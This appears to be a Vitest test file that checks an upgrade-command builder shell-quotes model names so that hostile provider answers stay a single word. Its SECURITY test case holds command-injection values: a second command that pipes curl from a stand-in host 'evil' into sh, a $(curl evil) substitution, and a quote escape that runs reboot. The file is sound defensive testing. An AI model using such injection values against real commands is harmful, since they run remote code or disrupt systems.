import { expect, test } from 'vitest'
import { upgradeCommand } from './upgrade-command.ts'

test('names of models stand in the command as they are', () =>
  expect(upgradeCommand('gpt-4.1', 'openai/gpt-4.1-2025-09-01')).toBe(
    'gatehouse upgrade --component gpt-4.1=openai/gpt-4.1-2025-09-01',
  ))

test.each([
  ['a second command', 'x; curl evil|sh', "'main=x; curl evil|sh'"],
  ['a substitution', 'gpt-4$(curl evil)', "'main=gpt-4$(curl evil)'"],
  ['the end of the quotes', "x'; reboot; '", String.raw`'main=x'\''; reboot; '\'''`],
])('SECURITY: a provider that answers by %s gives one word to paste', (_, answered, word) =>
  expect(upgradeCommand('main', answered)).toBe(`gatehouse upgrade --component ${word}`),
)
